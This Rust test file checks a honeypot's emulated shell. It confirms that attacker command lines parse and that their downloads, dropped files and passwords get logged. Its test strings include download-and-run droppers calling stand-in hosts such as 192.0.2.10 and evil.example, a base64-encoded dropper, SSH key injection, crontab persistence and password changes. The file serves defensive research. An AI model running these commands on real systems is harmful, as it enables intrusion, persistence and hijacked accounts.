//! Real-world attacker command lines: every one parses and runs (no syntax
//! error, no panic, bounded output), and the important ones leave the events
//! the SSH side logs: download URLs, captured files, typed passwords.

mod common;

use decnet_shell::ShellEvent;

fn corpus() -> Vec<String> {
    include_str!("../testdata/attacker_corpus.txt")
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .map(|l| l.replace('⏎', "\n"))
        .collect()
}

#[test]
fn every_line_runs_without_a_parse_error() {
    for distro in ["debian", "centos7", "alpine", "ubuntu22"] {
        let host = common::host(distro);
        for line in corpus() {
            let r = common::exec(&host, &line);
            assert!(r.status.is_some(), "{distro}: {line:?} did not finish");
            for text in [&r.stdout, &r.stderr] {
                assert!(
                    !text.contains("syntax error"),
                    "{distro}: {line:?} failed to parse: {text}"
                );
            }
            assert!(
                r.stdout.len() + r.stderr.len() < 2 << 20,
                "{distro}: {line:?} output unbounded"
            );
            assert!(
                matches!(r.events.first(), Some(ShellEvent::Command { .. })),
                "{distro}: {line:?} has no command event"
            );
        }
    }
}

fn downloads(events: &[ShellEvent]) -> Vec<String> {
    events
        .iter()
        .filter_map(|e| match e {
            ShellEvent::Download { url, .. } => Some(url.clone()),
            _ => None,
        })
        .collect()
}

fn captured<'a>(events: &'a [ShellEvent], path: &str) -> Option<&'a [u8]> {
    events.iter().rev().find_map(|e| match e {
        ShellEvent::FileCaptured { path: p, data, .. } if p == path => Some(&data[..]),
        _ => None,
    })
}

#[test]
fn dropper_urls_are_logged_and_fail_like_no_route() {
    let host = common::host("debian");
    let r = common::exec(
        &host,
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.10 -c get tftp1.sh",
    );
    assert_eq!(
        downloads(&r.events),
        ["http://192.0.2.10/bins.sh", "tftp://192.0.2.10/tftp1.sh"]
    );
    assert!(
        r.stderr
            .contains("Connecting to 192.0.2.10:80... failed: No route to host."),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("sh: bins.sh: No such file or directory"),
        "{}",
        r.stderr
    );

    let r = common::exec(&host, "curl -s http://192.0.2.44/mine.sh | sh; echo $?");
    assert_eq!(downloads(&r.events), ["http://192.0.2.44/mine.sh"]);
    let r = common::exec(&host, "curl http://evil.example/x");
    assert_eq!(r.status, Some(6));
    assert!(
        r.stderr.contains("curl: (6) Could not resolve host: evil.example"),
        "{}",
        r.stderr
    );
    let r = common::exec(&host, "curl -o /tmp/x http://192.0.2.5:8080/x");
    assert_eq!(r.status, Some(7));
    assert!(
        r.stderr
            .contains("curl: (7) Failed to connect to 192.0.2.5 port 8080 after"),
        "{}",
        r.stderr
    );

    // A base64-encoded dropper still reaches the download tool.
    let r = common::exec(&host, "echo \"d2dldCBodHRwOi8vMTkyLjAuMi45L3Iuc2g=\" | base64 -d | sh");
    assert_eq!(downloads(&r.events), ["http://192.0.2.9/r.sh"]);
}

#[test]
fn ssh_key_injection_is_captured() {
    let host = common::host("debian");
    let r = common::exec(
        &host,
        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCuhZ3nFw0hP1 mdrfckr\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
    );
    assert_eq!(r.status, Some(0), "{}", r.stderr);
    let data = captured(&r.events, "/root/.ssh/authorized_keys").expect("authorized_keys captured");
    assert_eq!(data, b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCuhZ3nFw0hP1 mdrfckr\n");
    let sha = r.events.iter().find_map(|e| match e {
        ShellEvent::FileCaptured { sha256, .. } => Some(sha256.clone()),
        _ => None,
    });
    assert_eq!(sha.map(|s| s.len()), Some(64));
}

#[test]
fn base64_upload_is_captured_and_runs() {
    let host = common::host("debian");
    let r = common::exec(
        &host,
        "echo \"IyEvYmluL3NoCmVjaG8gcHduZWQK\" | base64 -d > /tmp/.x && chmod +x /tmp/.x && /tmp/.x",
    );
    assert_eq!(captured(&r.events, "/tmp/.x"), Some(&b"#!/bin/sh\necho pwned\n"[..]));
    assert_eq!(r.stdout, "pwned\n");
    assert_eq!(r.status, Some(0));
}

#[test]
fn heredoc_upload_is_captured() {
    let host = common::host("debian");
    let r = common::exec(
        &host,
        "cat > /tmp/run.sh << 'EOF'\n#!/bin/sh\nwget http://192.0.2.4/p -O /tmp/p\nEOF\nchmod +x /tmp/run.sh; /tmp/run.sh",
    );
    assert_eq!(
        captured(&r.events, "/tmp/run.sh"),
        Some(&b"#!/bin/sh\nwget http://192.0.2.4/p -O /tmp/p\n"[..])
    );
    assert_eq!(downloads(&r.events), ["http://192.0.2.4/p"]);
}

#[test]
fn crontab_persistence_is_captured() {
    let host = common::host("debian");
    let r = common::exec(
        &host,
        "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://192.0.2.8/c.sh | sh\") | crontab -; crontab -l",
    );
    assert_eq!(r.stdout, "*/5 * * * * curl -fsSL http://192.0.2.8/c.sh | sh\n");
    assert!(captured(&r.events, "/var/spool/cron/crontabs/root").is_some());
    let centos = common::host("centos7");
    let r = common::exec(&centos, "echo '* * * * * /tmp/x' | crontab -");
    assert!(captured(&r.events, "/var/spool/cron/root").is_some());
}

#[test]
fn piped_passwords_are_logged() {
    let host = common::host("debian");
    let r = common::exec(&host, "echo -e \"P4ssw0rd\\nP4ssw0rd\" | passwd");
    let passwords: Vec<&str> = r
        .events
        .iter()
        .filter_map(|e| match e {
            ShellEvent::Password { password, .. } => Some(password.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(passwords, ["P4ssw0rd"]);
    let r = common::exec(&host, "echo 'root:hunter2' | chpasswd");
    assert!(
        r.events.iter().any(
            |e| matches!(e, ShellEvent::Password { user, password, .. } if user == "root" && password == "hunter2")
        )
    );
}

#[test]
fn sudo_with_a_piped_password() {
    let host = common::host("debian");
    let r = common::exec_as(&host, "admin", "echo admin123 | sudo -S id -u");
    assert_eq!(r.stdout, "0\n");
    assert_eq!(r.stderr, "[sudo] password for admin: ");
    assert!(r.events.iter().any(|e| matches!(e, ShellEvent::Password { tool, password, accepted: true, .. } if tool == "sudo" && password == "admin123")));
}

#[test]
fn download_failures_follow_the_distro_tools() {
    let alpine = common::host("alpine");
    let r = common::exec(&alpine, "wget http://192.0.2.10/x");
    assert_eq!(
        r.stderr,
        "Connecting to 192.0.2.10 (192.0.2.10:80)\nwget: can't connect to remote host (192.0.2.10): No route to host\n"
    );
    assert_eq!(r.status, Some(1));
    let centos = common::host("centos7");
    let r = common::exec(&centos, "curl -s -S http://192.0.2.10:81/x");
    assert_eq!(
        r.stderr,
        "curl: (7) Failed connect to 192.0.2.10:81; No route to host\n"
    );
}
